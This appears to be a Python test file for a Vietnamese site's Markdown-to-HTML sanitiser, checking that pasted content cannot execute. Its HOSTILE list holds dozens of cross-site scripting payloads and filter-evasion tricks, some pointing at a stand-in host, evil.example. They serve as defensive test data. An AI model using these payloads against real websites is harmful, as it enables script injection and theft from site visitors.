"""Markdown becomes HTML that cannot run anything."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.html_pages import Html

from cchc_site.publish.markdown_html import MarkdownRenderer, sanitise, scrollable_tables

from .made import EXTENSIONS

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0b>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" OnErRoR="alert(1)">',
    "<p onclick=alert(1)>bấm</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='https://evil.example/'><input name=q><button formaction='javascript:alert(1)'>x</button></form>",
    "<style>body{background:url(//evil.example/)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<video src=x onerror=alert(1)><source src=y></video>",
    "<template><script>alert(1)</script></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&#58;alert(1)'>x</a>",
    "<a href='&#x1;javascript:alert(1)'>x</a>",
    "<a href='java&#x1;script:alert(1)'>x</a>",
    "<a href='&#xFFFE;javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](a.md){: onclick="alert(1)" style="position:fixed" }',
    "## Tiêu đề {: onmouseover=alert(1) }",
    '![x](a.png "\\" onerror=\\"alert(1)")',
    '![" onerror="alert(1)](a.png)',
    '!!! note "<img src=x onerror=alert(1)>"\n    chữ',
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div markdown=1><script>alert(1)</script></div>",
]


def _html(text: str) -> str:
    return MarkdownRenderer(EXTENSIONS, {}).html(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_an_editor_pastes_can_run(text: str) -> None:
    assert Html(_html(text)).hostile() == []


@pytest.mark.parametrize("text", [item for item in HOSTILE if item.startswith("<")])
def test_the_tests_own_detector_is_not_blind(text: str) -> None:
    """Without sanitising, the corpus is hostile (a few pieces need a browser's parser, not ours, to come alive)."""
    needs_a_browser = ("<javascript:", "<!", "<scr<script>", "<<script>", "<noscript>", "<script\x0b>", "<img/src")
    assert Html(text).hostile() or text.startswith(needs_a_browser)


@given(
    st.lists(st.sampled_from([*HOSTILE, "<p>", "</p>", "\n\n", "> ", "- ", "<table>", "</", "`", "&#60;"]), max_size=6)
)
def test_no_combination_can_run_either(parts: list[str]) -> None:
    assert Html(_html("".join(parts))).hostile() == []


@given(st.text(max_size=200))
def test_any_text_is_sanitised_once_and_for_all(text: str) -> None:
    assert sanitise(sanitise(text)) == sanitise(text)


@pytest.mark.parametrize("text", ["a&#7;b", "a&#xFFFE;b", "a&#0;b", "<span title='&#11;'>b</span>", "a&#xFFFF;b"])
def test_entities_cannot_bring_characters_that_break_a_feed(text: str) -> None:
    assert not set("\x00\x07\x0b\ufffe\uffff") & set(_html(text))


def test_headings_have_ids_that_can_be_typed_and_differ_from_the_pages_own() -> None:
    ids = Html(_html("## Nội dung\n\n## Đơn vị *nào* làm?\n\n## Nội dung\n\n## ???")).values("id")
    assert ids == ["muc-noi-dung", "muc-don-vi-nao-lam", "muc-noi-dung_1", "muc-phan"]


@pytest.mark.parametrize("text", ["# Một", "Một\n===", "<h1>Một</h1>", "<H1 class='x'>Một</H1>"])
def test_the_pages_only_h1_stays_its_title(text: str) -> None:
    html = _html(text)
    assert "h1" not in html.lower()
    assert "<h2" in html
    assert "</h2>" in html


def test_a_table_scrolls_in_its_own_box() -> None:
    html = scrollable_tables(_html("| a | b |\n|---|---|\n| 1 | 2 |\n\n| c |\n|---|\n| 3 |\n"))
    for number in (1, 2):
        assert f'<div class="table-scroll" role="region" aria-label="Bảng {number}" tabindex="0"><table>' in html
    assert html.count("</table></div>") == 2


def test_a_table_named_in_words_is_not_wrapped() -> None:
    html = scrollable_tables(_html("`<table>` và <span title='<table'>chữ</span>"))
    assert "table-scroll" not in html


def test_one_piece_leaves_no_trace_in_the_next() -> None:
    renderer = MarkdownRenderer(EXTENSIONS, {})
    first = renderer.html("## Mục\n\nx[^1]\n\n[^1]: Chú thích.\n\n[y]: a.md")
    assert renderer.html("## Mục\n\nx[^1]\n\n[^1]: Chú thích.\n\n[y]: a.md") == first
    assert "href" not in renderer.html("[y][y] [^1]")


def test_vietnamese_text_comes_through_unchanged() -> None:
    assert "Nguyễn Thị Ước, ngày 05/02/2024 – “đã nộp”" in _html("Nguyễn Thị Ước, ngày 05/02/2024 – “đã nộp”")


def test_ids_of_an_article_stay_apart_from_the_pages_own() -> None:
    html = _html("## Phần {#noi-dung}\n\n[về đầu](#noi-dung), chú[^1]\n\n[^1]: thích")
    assert 'id="muc-noi-dung"' in html
    assert 'href="#muc-noi-dung"' in html
    assert 'id="fn:1"' in html
    assert 'href="#fn:1"' in html
